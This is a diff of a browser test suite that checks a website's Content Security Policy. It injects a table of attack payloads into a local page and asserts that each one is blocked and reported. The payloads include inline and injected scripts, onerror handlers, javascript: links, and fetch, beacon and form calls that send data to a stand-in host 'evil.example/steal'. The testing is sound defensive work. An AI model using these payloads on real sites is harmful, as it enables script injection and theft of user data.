@@ -1,114 +1,70 @@
-import type { Browser, Page, Route } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page, Route } from 'playwright-core';
+import { beforeEach, expect, onTestFinished, test } from 'vitest';
 import { siteHeaders } from '#contract/security-headers.ts';
-import { pdf } from '../../local/seed/pdf.ts';
-import { adminCopy, applicationsCopy } from '../../src/content/admin-copy.ts';
 import { paths } from '../../src/paths.ts';
-import { publicRows } from '../../src/router.tsx';
-import { applyFor, bearer, postJob } from './dashboard.ts';
-import { applyForm, contactForm, somebody } from './forms.ts';
-import { launchBrowser, logIn, openPage, solveCaptcha } from './harness.ts';
+import { browserOfFile } from './file-browser.ts';
+import { openPage, siteUrl } from './harness.ts';
 import { reported } from './policy.ts';
-import { policyReports } from './policy-reports.ts';
 import { fontArrived, hydrated, serveFontLate } from './page-checks.ts';
-import { pagesShown } from './pdf-viewer.ts';
 
-let browser: Browser;
+// That the site itself works under its policy is shown by every other browser test: a report of the policy fails it (policy.ts).
+
+const browser = browserOfFile();
 let page: Page;
 let complaints: string[];
 
-beforeAll(async () => {
-  browser = await launchBrowser();
-});
-
 beforeEach(async () => {
-  ({ page, complaints } = await openPage(browser));
+  ({ page, complaints } = await openPage(browser()));
 });
 
-afterEach(() => page.context().close());
-afterAll(() => browser.close());
+/** Serves a page of the local site with the headers that it has where it is deployed. */
+async function deployed(route: Route): Promise<void> {
+  const response = await route.fetch();
+  const own = Object.entries(siteHeaders()).map(([name, value]) => [name.toLowerCase(), value]);
+  await route.fulfill({ response, headers: { ...response.headers(), ...(Object.fromEntries(own) as Record<string, string>) } });
+}
 
-describe('under its policy the site works without a report:', () => {
-  afterEach(() => {
-    expect(complaints).toEqual([]);
-    expect(policyReports).toEqual([]);
+test('the deployed policy allows what the site loads from Google', async () => {
+  const asked: string[] = [];
+  await page.route(`**${paths.about}`, deployed);
+  await page.context().route(/^https:\/\/[^/]+\.(?:google|gstatic|googleapis)\.com\//, async (route) => {
+    asked.push(route.request().url());
+    await route.fulfill({ contentType: 'text/javascript', body: '', headers: { 'Access-Control-Allow-Origin': '*' } });
   });
-
-  test('every public page, with its script and its font', async () => {
-    await serveFontLate(page);
-    for (const { path } of publicRows) {
-      await page.goto(path);
-      await hydrated(page);
-      await fontArrived(page);
-    }
-  });
-
-  test.each([contactForm, applyForm])('the $name form, with its captcha', async (form) => {
-    await form.open(page);
-    await form.fill(page.locator(form.scope), somebody());
-    await solveCaptcha(page);
-    await page.getByRole('button', { name: form.submit, exact: true }).click();
-    await form.taken(page);
-  });
-
-  test('login, dashboard and the preview of a resume', async () => {
-    const name = somebody();
-    await applyFor(await postJob(await bearer()), name, 'ada@example.com', pdf(name, ['Ten years']));
-    // From a public page, so that the policy of that page is the one that all of it runs under.
-    await page.goto(paths.home);
-    await hydrated(page);
-    await page.getByRole('contentinfo').getByRole('link', { name: 'Admin Login' }).click();
-    await logIn(page);
-    for (const tab of [adminCopy.tabs.messages, adminCopy.tabs.jobs, adminCopy.tabs.applications]) {
-      await page.getByRole('tab', { name: tab }).click();
-    }
-    await page
-      .getByRole('row', { name })
-      .getByRole('button', { name: applicationsCopy.detailsNamed(name) })
-      .click();
-    await page.getByRole('dialog', { name }).getByRole('button', { name: applicationsCopy.preview }).click();
-    await expect.poll(() => pagesShown(page)).toBe(1);
-  });
-
-  test('what the deployed site loads from Google, by the deployed policy', async () => {
-    const asked: string[] = [];
-    await page.route(`**${paths.about}`, deployed);
-    await page.context().route(/^https:\/\/[^/]+\.(?:google|gstatic|googleapis)\.com\//, async (route) => {
-      asked.push(route.request().url());
-      await route.fulfill({ contentType: 'text/javascript', body: '', headers: { 'Access-Control-Allow-Origin': '*' } });
-    });
-    await serveFontLate(page);
-    await page.goto(paths.about);
-    await hydrated(page);
-    await fontArrived(page);
-    const needed = {
-      scripts: ['https://www.google.com/recaptcha/api.js', 'https://www.gstatic.com/recaptcha/releases/x/recaptcha__en.js'],
-      frames: ['https://www.google.com/recaptcha/api2/anchor', 'https://recaptcha.google.com/recaptcha/api2/bframe'],
-      calls: [
-        'https://identitytoolkit.googleapis.com/v1/accounts:signInWithCustomToken',
-        'https://securetoken.googleapis.com/v1/token',
-        'https://www.google.com/recaptcha/api2/clr',
-      ],
-    };
-    await page.evaluate(async ({ scripts, frames, calls }) => {
-      const load = (tag: 'script' | 'iframe') => (src: string) =>
-        new Promise((resolve) => {
-          const element = Object.assign(document.createElement(tag), { src });
-          element.addEventListener('load', resolve);
-          element.addEventListener('error', resolve);
-          document.body.append(element);
-        });
-      await Promise.all([
-        ...scripts.map(load('script')),
-        ...frames.map(load('iframe')),
-        ...calls.map((url) => fetch(url, { method: 'POST' })),
-      ]);
-    }, needed);
-    expect(asked.sort()).toEqual(Object.values(needed).flat().sort());
-  });
+  await serveFontLate(page);
+  await page.goto(paths.about);
+  await hydrated(page);
+  await fontArrived(page);
+  const needed = {
+    scripts: ['https://www.google.com/recaptcha/api.js', 'https://www.gstatic.com/recaptcha/releases/x/recaptcha__en.js'],
+    frames: ['https://www.google.com/recaptcha/api2/anchor', 'https://recaptcha.google.com/recaptcha/api2/bframe'],
+    calls: [
+      'https://identitytoolkit.googleapis.com/v1/accounts:signInWithCustomToken',
+      'https://securetoken.googleapis.com/v1/token',
+      'https://www.google.com/recaptcha/api2/clr',
+    ],
+  };
+  await page.evaluate(async ({ scripts, frames, calls }) => {
+    const load = (tag: 'script' | 'iframe') => (src: string) =>
+      new Promise((resolve) => {
+        const element = Object.assign(document.createElement(tag), { src });
+        element.addEventListener('load', resolve);
+        element.addEventListener('error', resolve);
+        document.body.append(element);
+      });
+    await Promise.all([
+      ...scripts.map(load('script')),
+      ...frames.map(load('iframe')),
+      ...calls.map((url) => fetch(url, { method: 'POST' })),
+    ]);
+  }, needed);
+  expect(asked.sort()).toEqual(Object.values(needed).flat().sort());
+  expect(complaints).toEqual([]);
 });
 
-test('the deployed policy does not let in the AngularJS that lies beside the captcha’s script', async () => {
+test('the deployed policy blocks the AngularJS that Google serves beside the captcha’s script', async () => {
   const angular = 'https://www.google.com/recaptcha/about/js/main.min.js';
   let loaded = false;
   await page.route(angular, async (route) => {
@@ -122,12 +78,95 @@ test('the deployed policy does not let in the AngularJS that lies beside the cap
   expect(loaded).toBe(false);
 });
 
-/** Serves a page of the local site with the headers that it has where it is deployed. */
-async function deployed(route: Route): Promise<void> {
-  const response = await route.fetch();
-  await route.fulfill({ response, headers: { ...response.headers(), ...lowerCased(siteHeaders()) } });
-}
+type Attack = {
+  what: string;
+  directive: string;
+  /** What stands in the page's HTML. */
+  markup?: string;
+  /** What the page is made to do. */
+  act?: () => unknown;
+};
 
-function lowerCased(headers: Record<string, string>): Record<string, string> {
-  return Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toLowerCase(), value]));
-}
+const attacks: Attack[] = [
+  { what: 'an inline script', directive: 'script-src', markup: '<script>window.harmed = true</script>' },
+  { what: 'an event handler in markup', directive: 'script-src', markup: '<img src="/nothing.png" alt="" onerror="window.harmed = true">' },
+  { what: 'a foreign script', directive: 'script-src', markup: '<script src="https://evil.example/x.js"></script>' },
+  { what: 'a script in a data URL', directive: 'script-src', markup: '<script src="data:text/javascript,window.harmed=true"></script>' },
+  { what: 'a foreign base address', directive: 'base-uri', markup: '<base href="https://evil.example/">' },
+  { what: 'a foreign frame', directive: 'frame-src', markup: '<iframe src="https://evil.example/"></iframe>' },
+  { what: 'a foreign plug-in', directive: 'object-src', markup: '<object data="https://evil.example/x" type="text/html"></object>' },
+  { what: 'a foreign image', directive: 'img-src', markup: '<img src="https://evil.example/x.png?stolen" alt="">' },
+  { what: 'a foreign style sheet', directive: 'style-src', markup: '<link rel="stylesheet" href="https://evil.example/x.css">' },
+  { what: 'a call to a foreign host', directive: 'connect-src', act: () => fetch('https://evil.example/steal').catch(() => undefined) },
+  { what: 'a beacon to a foreign host', directive: 'connect-src', act: () => navigator.sendBeacon('https://evil.example/steal', 'token') },
+  {
+    what: 'a script added by a script',
+    directive: 'script-src',
+    act: () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.harmed = true' })),
+  },
+  {
+    what: 'a text that is run as code',
+    directive: 'script-src',
+    act: () => void Reflect.apply(setTimeout, window, ['window.harmed = true']),
+  },
+  {
+    what: 'a script out of memory',
+    directive: 'script-src',
+    act: () =>
+      document.body.append(
+        Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.harmed = true'])) }),
+      ),
+  },
+  {
+    what: 'a javascript: link',
+    directive: 'script-src',
+    act: () => Object.assign(document.createElement('a'), { href: 'javascript:void(window.harmed = true)' }).click(),
+  },
+  {
+    what: 'a page out of memory in a frame',
+    directive: 'script-src',
+    act: () => {
+      const src = URL.createObjectURL(new Blob(['<script>parent.harmed = true</script>'], { type: 'text/html' }));
+      document.body.append(Object.assign(document.createElement('iframe'), { src }));
+    },
+  },
+  {
+    what: 'a form that is sent to a foreign host',
+    directive: 'form-action',
+    act: () => {
+      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/steal', target: 'elsewhere' });
+      document.body.append(form);
+      form.submit();
+    },
+  },
+];
+
+// The report shows that the attack took place: without one the test fails.
+test.each(attacks)('the policy blocks $what', async ({ directive, markup = '', act }) => {
+  const requests: string[] = [];
+  await page.context().route('https://evil.example/**', async (route) => {
+    requests.push(route.request().url());
+    await route.fulfill({ contentType: 'text/javascript', body: 'window.harmed = true', headers: { 'Access-Control-Allow-Origin': '*' } });
+  });
+  await page.route(`**${paths.about}`, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) });
+  });
+  await page.goto(paths.about);
+  if (act) await page.evaluate(act);
+  await reported(directive);
+  expect(await page.evaluate(() => 'harmed' in window || !document.baseURI.startsWith(location.origin))).toBe(false);
+  expect(requests).toEqual([]);
+});
+
+test('the policy keeps another site from showing a page in a frame', async () => {
+  const html = `<!doctype html><title>Other</title><iframe src="${siteUrl}${paths.about}"></iframe>`;
+  const other = createServer((_, response) => response.setHeader('Content-Type', 'text/html').end(html));
+  onTestFinished(() => void other.close());
+  await new Promise<void>((listening) => {
+    other.listen(0, '127.0.0.1', listening);
+  });
+  await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}`);
+  await reported('frame-ancestors');
+  expect(page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
+});
